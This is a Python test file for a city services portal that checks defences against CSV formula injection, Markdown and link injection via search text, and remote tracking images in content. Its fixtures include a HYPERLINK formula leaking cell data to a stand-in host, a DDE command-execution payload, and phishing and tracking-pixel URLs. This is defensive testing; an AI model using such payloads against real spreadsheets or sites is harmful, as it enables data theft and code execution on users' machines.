"""What the portal writes and shows: CSV cells open as text, user-typed and URL text stays text,
content texts get one treatment, and content Markdown loads no remote image (findings 2, 3, 5, 8)."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest
from apptest import run
from conftest import ROOT, SERVICES, write_content
from markdown_it import MarkdownIt

from lotse import content, export
from lotse.problems import Severity

TODAY = __import__("datetime").date(2026, 11, 24)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def cells(data: bytes, lang: str) -> list[list[str]]:
    """The table as a spreadsheet reads it: every cell as text."""
    sep, _ = export.csv_dialect(lang)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=sep))


def hostile(tmp_path: Path) -> Path:
    services = (SERVICES
                .replace("title: {de: Beratung, en: Counselling}", f"title: {{de: '{HOSTILE_TITLE}', en: '+1+1'}}")
                .replace("summary: {de: Wir beraten., en: We advise.}", "summary: {de: '@SUM(1+1)', en: '-2+3'}")
                .replace("street: Markt 1", "street: '=cmd|'' /C calc''!A0'")
                .replace("name: {de: Büro, en: Office}", 'name: {de: "\\tBüro", en: "\\rOffice"}'))
    return write_content(tmp_path, services)


@pytest.mark.parametrize("lang", ["de", "en"])
def test_csv_cells_from_hostile_texts_open_as_text(tmp_path: Path, lang: str) -> None:
    directory = content.load_or_raise(hostile(tmp_path), today=TODAY)
    table = cells(export.csv_bytes(directory, lang), lang)
    assert [cell for row in table for cell in row if cell.startswith(FORMULA_STARTS)] == []
    row = dict(zip(table[0], table[1], strict=True))
    assert row["title"] == ("'" + HOSTILE_TITLE if lang == "de" else "'+1+1")
    assert row["street"] == "'=cmd|' /C calc'!A0"
    assert row["office"] == ("'\tBüro" if lang == "de" else "'\rOffice")


def test_cli_csv_export_is_formula_safe(tmp_path: Path) -> None:
    root = hostile(tmp_path / "site")
    done = subprocess.run([sys.executable, "-m", "lotse", "export", "--format", "csv", "--out", str(tmp_path / "out"),
                           "--root", str(root)], cwd=ROOT, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    table = cells((tmp_path / "out" / "offers.de.csv").read_bytes(), "de")
    assert [cell for row in table for cell in row if cell.startswith(FORMULA_STARTS)] == []
    assert dict(zip(table[0], table[1], strict=True))["title"] == "'" + HOSTILE_TITLE


def test_tables_offer_no_csv_download_of_their_own() -> None:
    """Streamlit's table toolbar would write content cells to CSV unchanged; the portal's config turns it off."""
    import tomllib

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True


# --- text on the page ----------------------------------------------------------------------------------

_MD = MarkdownIt("commonmark").enable(["table", "strikethrough"])
_GFM = MarkdownIt("gfm-like")  # also links bare URLs, www. names and email addresses, as Streamlit's GFM does


def html(markdown: str, autolinks: bool = False) -> str:
    """Markdown as a renderer turns it into HTML."""
    return (_GFM if autolinks else _MD).render(markdown)


def shown(at: object) -> list[str]:
    values: list[str] = []
    for kind in ("title", "header", "subheader", "markdown", "caption", "info", "warning", "error", "success"):
        values += [str(el.value) for el in getattr(at, kind)]
    values += [str(el.proto.label) for el in at.get("page_link")]  # type: ignore[attr-defined]
    return values


def live_markup(at: object, autolinks: bool = False) -> list[str]:
    """Every element whose Markdown would make a link to the hostile host, or any image."""
    return [v for v in shown(at) if 'href="https://evil.example' in html(v, autolinks) or "evil.example</a>" in
            html(v, autolinks) or "<img" in html(v, autolinks)]


@pytest.mark.parametrize("query", [
    "[Klick](https://evil.example/phish)",
    "![x](https://evil.example/pixel.png)",
    "<img src=https://evil.example/t.png> **fett** https://evil.example www.evil.example a@evil.example",
])
def test_search_text_from_the_url_is_shown_as_text(content_dir: Path, query: str) -> None:
    at = run(content_dir, lang="de", q=query)
    assert not at.exception
    assert live_markup(at, autolinks=True) == []
    assert any("Nichts gefunden" in str(el.value) for el in at.info)


def test_long_search_text_is_cut_with_a_note(content_dir: Path) -> None:
    at = run(content_dir, lang="de", q="Beratung " * 100)
    assert not at.exception
    assert at.text_input(key="search_q").value == ("Beratung " * 100)[:200]
    assert "Ihr Suchtext wurde auf die ersten 200 Zeichen gekürzt." in [str(c.value) for c in at.caption]


def test_long_search_text_is_cut_at_the_front_desk(content_dir: Path) -> None:
    at = run(content_dir, page="frontdesk", lang="en", q="Counselling " * 100)
    assert not at.exception
    assert at.text_input(key="frontdesk_query").value == ("Counselling " * 100)[:200]
    assert "Your search text was shortened to its first 200 characters." in [str(c.value) for c in at.caption]


MARKUP = "**Bold** [link](https://evil.example/x) ![px](https://evil.example/px.png)"


def marked_up(tmp_path: Path) -> Path:
    """Offer title and summary, guide title and step heading all carrying Markdown."""
    services = (SERVICES
                .replace("title: {de: Beratung, en: Counselling}", f"title: {{de: 'Beratung {MARKUP}'}}")
                .replace("summary: {de: Wir beraten., en: We advise.}", f"summary: {{de: 'Wir {MARKUP}'}}")
                + "guides:\n  - id: guide\n    title: {de: 'Weg " + MARKUP + "'}\n    summary: {de: Kurz}\n"
                + "    steps:\n      - title: {de: 'Schritt " + MARKUP + "'}\n        text: {de: Text}\n"
                + "        offers: [counselling]\n")
    return write_content(tmp_path, services)


@pytest.mark.parametrize(("page", "query"), [
    (None, {"q": "Beratung"}),                # result cards
    (None, {"offer": "counselling"}),         # offer page
    (None, {"guide": "guide"}),               # guide page: its step headings
    (None, {}),                               # start page: guide cards
    ("frontdesk", {"q": "Beratung"}),         # the front desk's staff column
])
def test_plain_content_texts_are_escaped_everywhere(tmp_path: Path, page: str | None, query: dict[str, str]) -> None:
    at = run(marked_up(tmp_path), page=page, lang="de", **query)
    assert not at.exception
    assert live_markup(at) == []
    assert any("Bold" in v for v in shown(at))


def test_content_markdown_shows_no_remote_image(tmp_path: Path) -> None:
    services = SERVICES.replace(
        "summary: {de: Wir beraten., en: We advise.}",
        "summary: {de: Wir beraten., en: We advise.}\n"
        "    description: {de: 'Mehr **hier** [Seite](https://jena.de) ![Logo der Stadt](https://evil.example/px.png)'}")
    root = write_content(tmp_path, services, **{
        "content/pages/about.de.md": "# Über uns\n\nText\n\n![Zähler](https://evil.example/about.png)\n"})
    at = run(root, lang="de", offer="counselling")
    assert not at.exception
    rendered = html("\n".join(shown(at)))
    assert "<img" not in rendered
    assert "<strong>hier</strong>" in rendered and '<a href="https://jena.de">Seite</a>' in rendered
    assert "Logo der Stadt" in rendered
    about = run(root, page="about", lang="de")
    assert "<img" not in html("\n".join(shown(about)))
    assert "Zähler" in html("\n".join(shown(about)))


def test_check_warns_about_images_in_content_markdown(tmp_path: Path) -> None:
    services = SERVICES.replace(
        "summary: {de: Wir beraten., en: We advise.}",
        "summary: {de: Wir beraten., en: We advise.}\n    description: {de: 'Text ![Logo](https://evil.example/px.png)'}")
    root = write_content(tmp_path, services, **{"content/pages/about.de.md": "# Über\n\n![](https://evil.example/a.png)\n"})
    result = content.load(root, today=TODAY)
    assert result.ok  # a warning, not an error
    warnings = [str(p) for p in result.problems if p.severity == Severity.warning and "image" in p.message]
    assert warnings == [
        "content/pages/about.de.md:3:1: warning: image 'https://evil.example/a.png' is not shown: the portal shows no "
        "images from content, so that no visitor's browser contacts another server; nothing is shown instead",
        "services.yaml:36:19: warning: image 'https://evil.example/px.png' is not shown: the portal shows no images "
        "from content, so that no visitor's browser contacts another server; its alt text 'Logo' is shown instead",
    ]
